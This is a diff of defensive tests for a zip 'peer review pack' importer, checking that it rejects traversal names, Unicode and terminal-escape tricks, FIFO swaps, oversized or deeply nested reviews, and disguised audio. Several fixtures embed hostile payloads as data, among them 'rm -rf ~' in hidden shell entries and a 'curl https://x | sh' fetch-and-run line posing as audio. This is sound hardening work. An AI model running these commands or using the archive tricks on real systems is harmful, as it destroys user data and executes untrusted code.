@@ -1,12 +1,17 @@
+import { ArtifactStore } from '@lepupitre/db-core';
 import { captureWorld } from '@lepupitre/testing';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { execFileSync, spawn } from 'node:child_process';
+import { closeSync, constants, copyFileSync, lstatSync, mkdirSync, openSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { deflateRawSync } from 'node:zlib';
-import { PACK_LIMITS, type PackLimits } from '../src';
+import { exportPack, getPeerReview, inspectPack, listPeerReviews, PACK_LIMITS, type PackLimits } from '../src';
 import { importPeerReviewPack } from './support/command-import';
-import { FILLED_REVIEW, packEntries, packParts, type PackParts } from './support/pack-fixture';
+import { deepReview, escapedText, reviewWith, storeReviewUnchecked } from './support/hostile-reviews';
+import { FILLED_REVIEW, packEntries, packParts, setRoleData, type PackParts } from './support/pack-fixture';
 import { rawZip, SYMLINK_ATTRIBUTES, unicodePathExtra, type RawEntry } from './support/raw-zip';
-import { fixedNow, openProfile, seedRun, useTempDirs } from './support/world';
+import { wavFile } from './support/wav-file';
+import { fixedNow, openProfile, seedRun, useTempDirs, type ProfileWorld } from './support/world';
+import { listZip } from './support/zip-listing';
 
 const MiB = 1024 * 1024;
 
@@ -32,6 +37,14 @@ const manifestEdit = (edit: (manifest: Record<string, unknown>) => void): RawEnt
   withParts((parts) => edit(parts.manifest as unknown as Record<string, unknown>));
 const fileOf = (parts: PackParts, role: string): Record<string, unknown> =>
   parts.manifest.files.find((f) => f.role === role) as Record<string, unknown>;
+const roleData = (role: string, data: Buffer): RawEntry[] => withParts((parts) => setRoleData(parts, role, data));
+const review = (bytes: Buffer): RawEntry[] => packEntries(packParts({ review: bytes }));
+/** Points each of `roles` at the entry `target` lists, with its size and hash: one entry read several times. */
+const sharing = (target: string, roles: readonly string[]): RawEntry[] =>
+  withParts((parts) => {
+    const { path, sha256, bytes } = fileOf(parts, target);
+    for (const role of roles) Object.assign(fileOf(parts, role), { path, sha256, bytes });
+  });
 
 const TRANSCRIPT = 'run/transcript.json';
 let zeros: Buffer | undefined;
@@ -59,6 +72,9 @@ const CASES: readonly HostileCase[] = [
   },
   { title: 'a path that is not a file', code: 'pack_open_failed', reason: 'not_a_file', archive: () => (dir) => mkdirAt(join(dir, 'folder.zip')) },
   { title: 'a path that does not exist', code: 'pack_stat_failed', reason: 'stat', archive: () => (dir) => join(dir, 'absent.zip') },
+  // A FIFO with no writer would block whoever opens it without O_NONBLOCK, for good.
+  { title: 'a FIFO', code: 'pack_open_failed', reason: 'not_a_file', archive: () => (dir) => fifoAt(join(dir, 'pack.zip')) },
+  { title: 'a character device', code: 'pack_open_failed', reason: 'not_a_file', archive: () => () => '/dev/null' },
   // Names
   { title: 'a `..` entry', code: 'pack_invalid_path', reason: 'traversal', archive: () => plus({ name: '../evil.sh', data: Buffer.from('x') }) },
   { title: 'a nested `..` entry', code: 'pack_invalid_path', reason: 'traversal', archive: () => plus({ name: 'run/../../evil', data: Buffer.from('x') }) },
@@ -88,6 +104,35 @@ const CASES: readonly HostileCase[] = [
   { title: 'a duplicate differing in case', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'RUN/Audio.WAV', data: Buffer.from('x') }) },
   { title: 'a duplicate differing in slashes', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'run//audio.wav', data: Buffer.from('x') }) },
   { title: 'a duplicate through a `.` segment', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: './run/outline.md', data: Buffer.from('x') }) },
+  // `toLowerCase` leaves U+017F LATIN SMALL LETTER LONG S alone; case folding makes it `s`.
+  { title: 'a duplicate through a long s (ſ)', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'rubric/rubric.jſon', data: Buffer.from('x') }) },
+  { title: 'a duplicate in fullwidth letters', code: 'pack_duplicate_entry', reason: 'name', archive: () => plus({ name: 'ｒｕｎ/outline.md', data: Buffer.from('x') }) },
+  {
+    title: 'a terminal escape in a name',
+    code: 'pack_invalid_path',
+    reason: 'control_character',
+    archive: () => plus({ name: 'run/\u001b[2J\u001b]8;;http://x\u0007notes.txt', data: Buffer.from('x') }),
+  },
+  {
+    title: 'a right-to-left override in a name (it shows as evilhs.png)',
+    code: 'pack_invalid_path',
+    reason: 'format_character',
+    archive: () => plus({ name: 'run/evil\u202egnp.sh', data: Buffer.from('x') }),
+  },
+  { title: 'a C1 control in a name', code: 'pack_invalid_path', reason: 'control_character', archive: () => plus({ name: 'run/\u009bnotes.txt', data: Buffer.from('x') }) },
+  { title: 'a name of 300 characters', code: 'pack_invalid_path', reason: 'too_long', archive: () => plus({ name: `run/${'n'.repeat(296)}`, data: Buffer.from('x') }) },
+  {
+    title: 'a local header naming another file than the central directory',
+    code: 'pack_entry_name_mismatch',
+    reason: 'local_header',
+    archive: () => replace('viewer/index.html', (e) => ({ ...e, localName: 'viewer/other.html' })),
+  },
+  {
+    title: 'a traversal in a local header only',
+    code: 'pack_invalid_path',
+    reason: 'traversal',
+    archive: () => replace('viewer/index.html', (e) => ({ ...e, localName: '../../viewer.html' })),
+  },
   // Counts and sizes
   {
     title: 'too many entries',
@@ -100,6 +145,12 @@ const CASES: readonly HostileCase[] = [
     code: 'pack_too_many_entries',
     reason: 'central_directory_count',
     archive: () => rawZip(valid(), { declaredEntryCount: 65535 }),
+  },
+  {
+    title: 'an end record listing fewer entries than the central directory holds',
+    code: 'pack_central_directory_mismatch',
+    reason: 'unlisted_records',
+    archive: () => rawZip(plus({ name: 'hidden.sh', data: Buffer.from('#!/bin/sh\nrm -rf ~\n') }), { declaredEntryCount: 7 }),
   },
   {
     title: 'an entry declaring more than 64 MiB',
@@ -205,12 +256,42 @@ const CASES: readonly HostileCase[] = [
     reason: 'schema',
     archive: () => manifestEdit((m) => (m['run'] = { run_id: 'run_x', duration_ms: 1.5 })),
   },
+  {
+    title: 'a negative duration',
+    code: 'manifest_parse_failed',
+    reason: 'schema',
+    archive: () => manifestEdit((m) => (m['run'] = { run_id: 'run_x', duration_ms: -1 })),
+  },
+  {
+    title: 'a terminal escape in pack_id',
+    code: 'manifest_parse_failed',
+    reason: 'schema',
+    archive: () => manifestEdit((m) => (m['pack_id'] = 'pack_\u001b[31mred\u001b[0m')),
+  },
+  {
+    title: 'a terminal escape in created_at',
+    code: 'manifest_parse_failed',
+    reason: 'schema',
+    archive: () => manifestEdit((m) => (m['created_at'] = '2026-03-10T08:00:00+00:00\u001b[2J')),
+  },
   { title: 'another schema version', code: 'manifest_schema_mismatch', reason: 'schema_version', archive: () => manifestEdit((m) => (m['schema_version'] = '2.0.0')) },
   {
     title: 'a role listed twice',
     code: 'manifest_duplicate_role',
     reason: 'role',
     archive: () => withParts((p) => p.manifest.files.push({ ...fileOf(p, 'viewer'), path: 'viewer/other.html' })),
+  },
+  {
+    title: 'several roles pointing at one entry',
+    code: 'manifest_duplicate_path',
+    reason: 'path',
+    archive: () => sharing('transcript', ['outline', 'rubric']),
+  },
+  {
+    title: 'two roles pointing at one entry (audio and viewer)',
+    code: 'manifest_duplicate_path',
+    reason: 'path',
+    archive: () => sharing('audio', ['viewer']),
   },
   {
     title: 'no rubric in the manifest',
@@ -264,10 +345,86 @@ const CASES: readonly HostileCase[] = [
       return packEntries(parts);
     },
   },
+  // Amplification: one import may not read (and then write) more than its budget.
+  {
+    title: 'role files adding up past the import budget',
+    code: 'pack_too_large',
+    reason: 'declared_total',
+    limits: { ...PACK_LIMITS, maxImportBytes: 4096 },
+    archive: () => valid(),
+  },
+  // Audio is stored as a recording: it must be one.
+  { title: 'a shell script as audio', code: 'pack_audio_invalid', reason: 'wav_header', archive: () => roleData('audio', Buffer.from('#!/bin/sh\ncurl https://x | sh\n'.repeat(4))) },
+  { title: 'a nested zip as audio', code: 'pack_audio_invalid', reason: 'wav_header', archive: () => roleData('audio', rawZip(valid())) },
+  { title: 'a stereo WAV', code: 'pack_audio_invalid', reason: 'wav_format', archive: () => roleData('audio', wavFile({ dataBytes: 2000, channels: 2 })) },
+  { title: 'a 44.1 kHz WAV', code: 'pack_audio_invalid', reason: 'wav_sample_rate', archive: () => roleData('audio', wavFile({ dataBytes: 2000, sampleRate: 44_100 })) },
+  {
+    title: 'a WAV whose data chunk claims more than the file holds',
+    code: 'pack_audio_invalid',
+    reason: 'wav_data',
+    archive: () => roleData('audio', wavFile({ dataBytes: 2000, declaredDataBytes: 1_000_000 })),
+  },
+  // Poisoned reviews: everything a review carries is bounded.
+  { title: 'a review nested 200,000 levels deep (400 KB)', code: 'review_limit_exceeded', reason: 'bytes', archive: () => review(deepReview(200_000)) },
+  { title: 'a review nested 100,000 levels deep (200 KB)', code: 'review_limit_exceeded', reason: 'depth', archive: () => review(deepReview(100_000)) },
+  { title: 'a review nested 17 levels deep', code: 'review_limit_exceeded', reason: 'depth', archive: () => review(deepReview(16)) },
+  {
+    title: 'a reviewer tag of 1.5 MiB with escape codes',
+    code: 'review_limit_exceeded',
+    reason: 'bytes',
+    archive: () => review(reviewWith({ reviewer_tag: escapedText(1.5 * MiB) })),
+  },
+  {
+    title: 'a reviewer tag of 121 characters',
+    code: 'review_limit_exceeded',
+    reason: 'reviewer_tag_length',
+    archive: () => review(reviewWith({ reviewer_tag: 'é'.repeat(121) })),
+  },
+  {
+    title: 'a reviewer tag with escape codes',
+    code: 'review_invalid_text',
+    reason: 'control_character',
+    archive: () => review(reviewWith({ reviewer_tag: 'Eve\u001b[2J\u001b[H' })),
+  },
+  {
+    title: 'free text with an escape code',
+    code: 'review_invalid_text',
+    reason: 'control_character',
+    archive: () => review(reviewWith({ free_text: { strengths: 'ok\u009b31m', improvements: '' } })),
+  },
+  {
+    title: 'a free text of 40,000 characters',
+    code: 'review_limit_exceeded',
+    reason: 'string_length',
+    archive: () => review(reviewWith({ free_text: { strengths: 'a'.repeat(40_000), improvements: '' } })),
+  },
+  {
+    title: 'a score key of 300 characters',
+    code: 'review_limit_exceeded',
+    reason: 'key_length',
+    archive: () => review(reviewWith({ scores: { ['k'.repeat(300)]: 3 } })),
+  },
+  {
+    title: 'timestamps with 5,000 items',
+    code: 'review_limit_exceeded',
+    reason: 'items',
+    archive: () => review(reviewWith({ timestamps: Array.from({ length: 5000 }, (_, i) => i) })),
+  },
+  {
+    title: 'scores with 2,000 keys',
+    code: 'review_limit_exceeded',
+    reason: 'items',
+    archive: () => review(reviewWith({ scores: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`s${i}`, 3])) })),
+  },
 ];
 
 function mkdirAt(path: string): string {
   mkdirSync(path);
+  return path;
+}
+
+function fifoAt(path: string): string {
+  execFileSync('mkfifo', [path]);
   return path;
 }
 
@@ -317,5 +474,161 @@ describe('hostile pack archives', () => {
     } finally {
       world.db.close();
     }
+  });
+});
+
+/** Swaps `target` between the zip and the FIFO (hard links renamed over it) until killed. */
+const SWAPPER = `
+const fs = require('node:fs');
+const [target, zip, fifo] = process.argv.slice(1);
+for (const end = Date.now() + 30000; Date.now() < end; ) {
+  fs.linkSync(zip, target + '.a');
+  fs.renameSync(target + '.a', target);
+  fs.linkSync(fifo, target + '.b');
+  fs.renameSync(target + '.b', target);
+}`;
+
+/** `read`, `<code>/<reason>`, or `hung` when the call has not settled within `ms`. */
+async function settleWithin(call: Promise<unknown>, ms: number): Promise<string> {
+  let timer: NodeJS.Timeout | undefined;
+  const hung = new Promise<string>((resolve) => (timer = setTimeout(() => resolve('hung'), ms)));
+  const settled = call.then(
+    () => 'read',
+    (error: { code?: string; reason?: string }) => `${error.code}/${error.reason}`,
+  );
+  try {
+    return await Promise.race([settled, hung]);
+  } finally {
+    clearTimeout(timer);
+  }
+}
+
+/** True while the swapper has the FIFO at the path; it renames over it, so looks may miss. */
+function isFifo(path: string): boolean {
+  for (let i = 0; i < 50; i++) {
+    try {
+      if (lstatSync(path).isFIFO()) return true;
+    } catch {
+      // between two renames there is always a file; an error is a look that raced one
+    }
+  }
+  return false;
+}
+
+/** Opens the FIFO for writing until no reader waits on it: a reader blocked in open() returns. */
+function releaseReaders(fifo: string): void {
+  for (let i = 0; i < 16; i++) {
+    try {
+      closeSync(openSync(fifo, constants.O_WRONLY | constants.O_NONBLOCK));
+    } catch {
+      return; // ENXIO: nobody is waiting
+    }
+  }
+}
+
+describe('a pack path swapped for a FIFO between checks', () => {
+  const tempDir = useTempDirs();
+
+  it('never blocks: each try reads the zip it opened or refuses the FIFO it opened', async () => {
+    const dir = tempDir();
+    const zip = join(dir, 'source.zip');
+    writeFileSync(zip, rawZip(valid()));
+    const fifo = fifoAt(join(dir, 'pipe'));
+    const target = join(dir, 'pack.zip');
+    copyFileSync(zip, target);
+    const swapper = spawn(process.execPath, ['-e', SWAPPER, target, zip, fifo], { stdio: 'ignore' });
+    const outcomes: Record<string, number> = {};
+    try {
+      // Tries start once the swapper runs (the FIFO has been seen at the path).
+      for (const until = Date.now() + 10_000; !isFifo(target) && Date.now() < until; ) await new Promise((resolve) => setTimeout(resolve, 5));
+      expect(isFifo(target)).toBe(true);
+      // Bounded: a few hundred tries, two seconds at most; one stuck try ends the loop.
+      for (let i = 0, until = Date.now() + 2000; i < 400 && Date.now() < until; i++) {
+        const outcome = await settleWithin(inspectPack(target), 1500);
+        outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
+        if (outcome === 'hung') break;
+      }
+    } finally {
+      const exited = new Promise((resolve) => swapper.once('exit', resolve));
+      swapper.kill('SIGKILL');
+      await exited;
+      releaseReaders(fifo);
+    }
+    expect(Object.keys(outcomes).filter((outcome) => outcome !== 'read' && outcome !== 'pack_open_failed/not_a_file')).toEqual([]);
+  });
+});
+
+describe('audio that hides something else', () => {
+  const tempDir = useTempDirs();
+
+  it('stores a WAV with a zip appended after its samples as the WAV alone, and exports it so', async () => {
+    const world = openProfile(tempDir());
+    try {
+      const hidden = rawZip([{ name: 'evil.sh', data: Buffer.from('#!/bin/sh\nrm -rf ~\n') }]);
+      const path = join(tempDir(), 'pack.zip');
+      writeFileSync(path, rawZip(roleData('audio', wavFile({ dataBytes: 2000, trailing: hidden }))));
+      const { runId } = await importPeerReviewPack(world.db, world.profileDir, path, { now: fixedNow });
+
+      const run = (captureWorld(world.databasePath, world.folder).rows['runs'] as Record<string, string>[]).find((r) => r['id'] === runId);
+      const stored = new ArtifactStore(world.db, world.profileDir).read(run?.['audio_artifact_id'] as string);
+      expect(stored).toEqual(wavFile({ dataBytes: 2000 }));
+
+      const exported = await exportPack(world.db, world.profileDir, { runId, profileId: null, appVersion: '0.3.0' }, { now: fixedNow });
+      const audio = (await listZip(readFileSync(exported.path))).find((entry) => entry.name === 'run/audio.wav');
+      expect(audio?.data).toEqual(wavFile({ dataBytes: 2000 }));
+    } finally {
+      world.db.close();
+    }
+  });
+});
+
+describe('reviews stored before the limits existed', () => {
+  const tempDir = useTempDirs();
+  let world: ProfileWorld;
+  beforeEach(() => {
+    world = openProfile(tempDir());
+  });
+  afterEach(() => world.db.close());
+
+  it('answers a typed error for a review nested 100,000 levels deep, never a value no one can serialise', () => {
+    const { peerReviewId } = storeReviewUnchecked(world, deepReview(100_000), 'Eve');
+    expect(() => getPeerReview(world.db, world.profileDir, peerReviewId)).toThrow(
+      expect.objectContaining({ code: 'review_limit_exceeded', message: expect.stringContaining('depth') }),
+    );
+  });
+
+  it('answers a typed error for a review file past the size limit', () => {
+    const { peerReviewId } = storeReviewUnchecked(world, reviewWith({ reviewer_tag: escapedText(1.5 * MiB) }), 'Eve');
+    expect(() => getPeerReview(world.db, world.profileDir, peerReviewId)).toThrow(expect.objectContaining({ code: 'review_limit_exceeded' }));
+  });
+
+  it('lists and gets an 8 MiB tag with escape codes as a short, clean tag', () => {
+    const { peerReviewId, projectId } = storeReviewUnchecked(world, reviewWith({ reviewer_tag: 'Eve' }), escapedText(8 * MiB));
+    const [listed] = listPeerReviews(world.db, { projectId });
+    const detail = getPeerReview(world.db, world.profileDir, peerReviewId);
+    for (const tag of [listed?.reviewer_tag, detail.reviewer_tag]) {
+      expect(tag).toEqual(expect.any(String));
+      expect([...(tag as string)].length).toBeLessThanOrEqual(120);
+      expect(tag).not.toMatch(/\p{Cc}/u);
+      expect(tag?.startsWith(escapedText(56))).toBe(true);
+    }
+  });
+
+  it('reads a tag of control characters only as no tag', () => {
+    const { projectId } = storeReviewUnchecked(world, reviewWith({ reviewer_tag: 'Eve' }), '\u001b\u0007\u009b');
+    expect(listPeerReviews(world.db, { projectId })[0]?.reviewer_tag).toBeNull();
+  });
+
+  it('gets a review whose strings carry escape codes with those characters removed', () => {
+    const stored = reviewWith({
+      reviewer_tag: 'Eve\u001b[31m',
+      free_text: { strengths: 'Clear\u001b[2J demo\nwith a second line', improvements: '\u009b31mSlow down' },
+      timestamps: [{ note: 'hook\u0007' }],
+    });
+    const { peerReviewId } = storeReviewUnchecked(world, stored, null);
+    const { review } = getPeerReview(world.db, world.profileDir, peerReviewId);
+    expect(review.reviewer_tag).toBe('Eve[31m');
+    expect(review.free_text).toEqual({ improvements: '31mSlow down', strengths: 'Clear[2J demo\nwith a second line' });
+    expect(review.timestamps).toEqual([{ note: 'hook' }]);
   });
 });
